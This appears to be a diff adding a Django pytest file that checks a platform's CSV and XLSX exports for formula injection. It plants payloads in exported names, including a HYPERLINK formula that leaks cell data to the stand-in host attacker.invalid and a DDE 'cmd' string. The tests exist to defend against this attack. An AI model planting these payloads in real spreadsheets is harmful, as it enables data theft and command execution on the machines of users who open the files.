@@ -1,0 +1,229 @@
+"""No CSV or XLSX the platform writes carries a live formula, whoever typed the names in it.
+
+Every download route is found from the URL configuration (a route whose pattern or name
+speaks of csv, xlsx or export); each must have a way here to plant a hostile name where
+that route shows it, so that a new export that nobody checked fails
+``test_every_export_route_is_walked``.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import re
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from django.test import Client
+from django.urls import URLPattern, URLResolver, get_resolver, reverse
+from openpyxl import load_workbook
+
+from asmhub.accounts.models import User
+from asmhub.conftest import make_org, make_person
+from asmhub.core.exports import FORMULA_STARTS, neutralise, to_csv, to_xlsx
+from asmhub.core.models import Status
+from asmhub.funding.iati_models import Activity
+from asmhub.funding.models import Project
+from asmhub.funding.tests.conftest import concept, donor, opportunity
+from asmhub.monitoring import snapshot, writer
+from asmhub.monitoring.models import AdminUnit, Site
+from asmhub.monitoring.tests.areadata import areas  # noqa: F401  (a fixture)
+from asmhub.monitoring.tests.conftest import monitoring  # noqa: F401  (a fixture)
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Click")'
+OTHERS = ("@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3", "\t=1+1", "\r=1+1")
+NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+GROUP = re.compile(r"\(\?P<(\w+)>([\w|]+)\)")
+CONVERTER = re.compile(r"<(?:\w+:)?(\w+)>")
+FORMATS = ("csv", "xlsx")
+
+
+def _walk(patterns: list[Any], namespace: str = "", prefix: str = "") -> Iterator[tuple[str, str]]:
+    for pattern in patterns:
+        if isinstance(pattern, URLResolver):
+            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
+            yield from _walk(pattern.url_patterns, inner, prefix + str(pattern.pattern))
+        elif isinstance(pattern, URLPattern) and pattern.name:
+            yield f"{namespace}{pattern.name}", prefix + str(pattern.pattern)
+
+
+def export_routes() -> list[tuple[str, dict[str, str]]]:
+    """Every (URL name, kwargs) of a download route, one per kind and format it serves."""
+    found = []
+    for name, route in _walk(get_resolver().url_patterns):
+        if not re.search(r"csv|xlsx?|export", f"{name} {route}", re.I):
+            continue
+        choices: dict[str, tuple[str, ...]] = {
+            group: tuple(options.split("|")) for group, options in GROUP.findall(route)
+        }
+        for converted in CONVERTER.findall(route):
+            choices.setdefault(converted, FORMATS if converted == "fmt" else ("?",))
+        variants: list[dict[str, str]] = [{}]
+        for group, options in choices.items():
+            wanted = [o for o in options if group != "fmt" or o in FORMATS]
+            variants = [{**v, group: o} for v in variants for o in wanted]
+        found += [(name, variant) for variant in variants]
+    return found
+
+
+def _site(request: pytest.FixtureRequest) -> str:
+    request.getfixturevalue("monitoring")
+    site = Site.objects.get(name="Bisie")
+    site.name = HOSTILE
+    site.save()
+    writer.refresh_sites([site.pk])
+    snapshot.bump()
+    return HOSTILE
+
+
+def _area(request: pytest.FixtureRequest) -> str:
+    request.getfixturevalue("areas")
+    AdminUnit.objects.filter(name="Walikale").update(name=HOSTILE)
+    snapshot.bump()
+    return HOSTILE
+
+
+def _donor(request: pytest.FixtureRequest) -> str:
+    donor(HOSTILE, {"mercury-chemicals": 1.0}, entry_points=[OTHERS[0]])
+    return HOSTILE
+
+
+def _opportunity(request: pytest.FixtureRequest) -> str:
+    profile = donor("Andes Fund", {"mercury-chemicals": 1.0})
+    opportunity(profile, HOSTILE, dt.date.today() + dt.timedelta(days=30), currency="USD")
+    return HOSTILE
+
+
+def _concept(request: pytest.FixtureRequest) -> str:
+    concept(HOSTILE, ("mercury-chemicals",), ("PE",), make_org(OTHERS[1], "national-ngo"))
+    return HOSTILE
+
+
+def _project(request: pytest.FixtureRequest) -> str:
+    Project.objects.create(title=HOSTILE, status=Status.PUBLISHED, currency="USD")
+    return HOSTILE
+
+
+def _activity(request: pytest.FixtureRequest) -> str:
+    Activity.objects.create(
+        iati_identifier="XM-DAC-1-1",
+        title=HOSTILE,
+        reporting_org_name=OTHERS[2],
+        is_asm=True,
+        asm_reasons=[OTHERS[3]],
+    )
+    return HOSTILE
+
+
+def _common_ground(request: pytest.FixtureRequest) -> None:
+    # The matrix shows goal labels and donor slugs, which no one types as such: the walk
+    # still checks every cell of it.
+    donor(HOSTILE, {"mercury-chemicals": 1.0, "sdg-8": 0.5})
+    make_org(HOSTILE, "national-ngo")
+
+
+def _nothing(request: pytest.FixtureRequest) -> None:
+    """The site-visit form is the platform's own: there is nothing to plant."""
+
+
+# How to plant a hostile name where each export shows it, by URL name and kind;
+# None when the export has nothing a user names (it is walked all the same).
+PLANTERS: dict[tuple[str, str], Callable[[pytest.FixtureRequest], str | None]] = {
+    ("directory:organization-export", ""): lambda r: make_org(HOSTILE).name,
+    ("directory:person-export", ""): lambda r: make_person(HOSTILE).name,
+    ("funding:export", "donors"): _donor,
+    ("funding:export", "opportunities"): _opportunity,
+    ("funding:export", "concepts"): _concept,
+    ("funding:export", "projects"): _project,
+    ("funding:export", "activities"): _activity,
+    ("funding:common-ground-export", ""): _common_ground,
+    ("monitoring:sites-export", ""): _site,
+    ("monitoring:index-export", ""): _area,
+    ("monitoring:xlsform", ""): _nothing,
+}
+ROUTES = export_routes()
+
+
+def cells(body: bytes, fmt: str) -> list[object]:
+    """Every cell of a download; an XLSX formula cell comes back as ('FORMULA', its text)."""
+    if fmt == "csv":
+        text = body.decode("utf-8-sig")
+        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    found: list[object] = []
+    book = load_workbook(io.BytesIO(body))
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                found.append(("FORMULA", cell.value) if cell.data_type == "f" else cell.value)
+    return found
+
+
+def live(value: object) -> bool:
+    """Would a spreadsheet program run this cell as a formula?"""
+    if isinstance(value, tuple):
+        return True
+    text = value if isinstance(value, str) else ""
+    return text.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(text)
+
+
+def test_every_export_route_is_walked() -> None:
+    names = {(name, kwargs.get("kind", "")) for name, kwargs in ROUTES}
+    assert names == set(PLANTERS), (
+        "an export route without a hostile-name check here: add it to PLANTERS"
+    )
+    assert {kwargs.get("fmt") for _name, kwargs in ROUTES} >= set(FORMATS)
+
+
+@pytest.mark.parametrize(
+    ("name", "kwargs"), ROUTES, ids=[f"{n}-{'-'.join(k.values())}" for n, k in ROUTES]
+)
+def test_no_export_carries_a_live_formula(
+    request: pytest.FixtureRequest,
+    login: Callable[[User], Client],
+    admin_user: User,
+    name: str,
+    kwargs: dict[str, str],
+) -> None:
+    planted = PLANTERS[(name, kwargs.get("kind", ""))](request)
+    response = login(admin_user).get(reverse(name, kwargs=kwargs))
+    assert response.status_code == 200
+    found = cells(response.content, kwargs.get("fmt", Path(response.wsgi_request.path).suffix[1:]))
+    assert found, "the download is empty"
+    assert [c for c in found if live(c)] == []
+    if planted is not None:
+        assert "'" + planted in found
+
+
+def test_numbers_stay_numbers_and_text_that_starts_like_a_formula_is_quoted() -> None:
+    row = [-1.234567, 28.5, 0, "-1.5", *OTHERS, HOSTILE, "plain", "", None]
+    columns = [f"c{n}" for n in range(len(row))]
+    csv_cells = cells(to_csv(columns, [row]), "csv")[len(row) :]
+    assert csv_cells[:4] == ["-1.234567", "28.5", "0", "-1.5"]
+    assert csv_cells[4:10] == ["'" + o for o in (*OTHERS, HOSTILE)]
+    xlsx_cells = cells(to_xlsx(columns, [row], "t"), "xlsx")[len(row) :]
+    assert xlsx_cells[:4] == [-1.234567, 28.5, 0, "-1.5"]
+    assert xlsx_cells[4:10] == ["'" + o for o in (*OTHERS, HOSTILE)]
+    assert neutralise(dt.date(2026, 1, 1)) == dt.date(2026, 1, 1)
+
+
+def test_every_csv_or_xlsx_writer_is_one_that_neutralises() -> None:
+    """A writer outside core/exports.py escapes the walk above unless it is listed here."""
+    root = Path(__file__).resolve().parents[2]
+    allowed = {
+        "core/exports.py",  # the helper itself
+        "monitoring/xlsform.py",  # the form's workbook: its cells go through neutralise
+        "monitoring/synthetic.py",  # the generated demo survey file, read back on import
+    }
+    writers = re.compile(r"csv\.(?:writer|DictWriter)\(|\bWorkbook\(")
+    found = {
+        str(path.relative_to(root))
+        for path in root.rglob("*.py")
+        if "tests" not in path.parts and writers.search(path.read_text(encoding="utf-8"))
+    }
+    assert found <= allowed
+    assert "neutralise(" in (root / "monitoring" / "xlsform.py").read_text(encoding="utf-8")
